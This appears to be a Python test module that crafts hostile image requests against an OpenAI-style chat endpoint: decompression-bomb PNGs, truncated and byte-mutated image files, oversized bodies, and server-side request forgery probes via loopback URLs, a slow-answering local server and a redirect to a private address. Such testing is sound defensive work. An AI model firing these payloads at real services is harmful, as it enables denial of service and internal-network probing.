"""What a client with a key sends as pictures, as fast as it is answered: bombs, broken files, and addresses."""

from __future__ import annotations

import base64
import io
import json
import os
import socket
import struct
import threading
import zlib
from collections.abc import Callable
from typing import Final

import attackers
from attackers import JSON, Attack, head
from PIL import Image

KEY: Final = "attacker"
SIDE = 8190  # pixels: its square is just below what a server takes
NOISE = 19 << 20  # bytes of a picture, just below what a server takes


def png(width: int, height: int, rows: int) -> bytes:
    """Returns a grey PNG that says it has this size, and has so many rows, which are white."""
    pack = zlib.compressobj(9)
    line = b"\0" + b"\xff" * width
    pixels = b"".join([*(pack.compress(line) for _ in range(rows)), pack.flush()])

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def noise(kind: str) -> bytes:
    out = io.BytesIO()
    pixels = b"".join(zlib.crc32(b"%d" % i).to_bytes(4) for i in range(3 << 14))
    Image.frombytes("RGB", (256, 256), pixels).save(out, kind, quality=90)
    return out.getvalue()


def mutated(data: bytes) -> bytes:
    """Returns a file of which every 97th byte behind the header is another."""
    return bytes(byte ^ 0x55 if i > 64 and i % 97 == 0 else byte for i, byte in enumerate(data))


def asking(url: str) -> Attack:
    """A chat about a picture, again and again."""
    content = [{"type": "image_url", "image_url": {"url": url}}, {"type": "text", "text": "what?"}]
    body = json.dumps({"messages": [{"role": "user", "content": content}], "max_tokens": 2}).encode()
    key, size = f"authorization: Bearer {KEY}", f"content-length: {len(body)}"
    return Attack(b"", head("POST /v1/chat/completions", JSON, key, size) + body, asks=True)


def sending(data: bytes) -> Attack:
    return asking(f"data:image/png;base64,{base64.b64encode(data).decode()}")


def large() -> Attack:
    first = head("POST /v1/chat/completions", JSON, f"authorization: Bearer {KEY}", f"content-length: {10**8}")
    return Attack(first, b" " * 4096)


def host(answer: bytes) -> str:
    """Returns the address of a host of this process, which says this to each that asks, and nothing more."""
    listening = socket.create_server((attackers.HOST, 0), backlog=128)

    def serve() -> None:
        held: list[socket.socket] = []
        while True:
            sock, _ = listening.accept()
            sock.sendall(answer)
            held = [*held[-256:], sock]

    threading.Thread(target=serve, daemon=True).start()
    return f"http://{attackers.HOST}:{listening.getsockname()[1]}/a.png"


PICTURES: dict[str, Callable[[], Attack]] = {
    "a PNG that says 30,000 x 30,000": lambda: sending(png(30_000, 30_000, 4)),
    "a PNG of 67 million pixels": lambda: sending(png(SIDE, SIDE, SIDE)),
    "half of a JPEG": lambda: sending(noise("JPEG")[: 1 << 14]),
    "a mutated WebP": lambda: sending(mutated(noise("WEBP"))),
    "19 MiB that are no picture": lambda: sending(os.urandom(NOISE)),
    "a stated body of 100 MB": large,
    "an address of this machine": lambda: asking("http://127.0.0.1:9/a.png"),
}
# Of a host that the server fetches from.
FETCHED: dict[str, Callable[[], Attack]] = {
    "an address that answers slowly": lambda: asking(host(b"HTTP/1.1 200 OK\r\n")),
    "a redirect to a private address": lambda: asking(
        host(b"HTTP/1.1 302 Found\r\nlocation: http://10.0.0.1/a.png\r\ncontent-length: 0\r\n\r\n")
    ),
}


def picture_attack(name: str) -> Attack:
    return (PICTURES | FETCHED)[name]()
